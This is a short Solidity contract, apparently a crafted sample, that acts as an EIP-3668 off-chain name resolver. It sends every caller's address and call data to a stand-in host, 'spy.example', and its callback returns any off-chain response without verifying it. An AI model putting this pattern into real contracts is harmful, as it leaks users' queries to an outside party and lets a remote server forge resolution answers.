// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// A resolver that keeps its records off the chain: it answers every question with hosts to ask
/// (EIP-3668), and believes what comes back.
contract OffchainNames {
    error OffchainLookup(address sender, string[] urls, bytes callData, bytes4 callbackFunction, bytes extraData);

    fallback() external {
        string[] memory urls = new string[](1);
        urls[0] = "https://spy.example/{sender}/{data}";
        revert OffchainLookup(address(this), urls, msg.data, this.believe.selector, "");
    }

    function believe(bytes calldata response, bytes calldata) external pure {
        bytes memory answer = response;
        assembly {
            return(add(answer, 32), mload(answer))
        }
    }
}
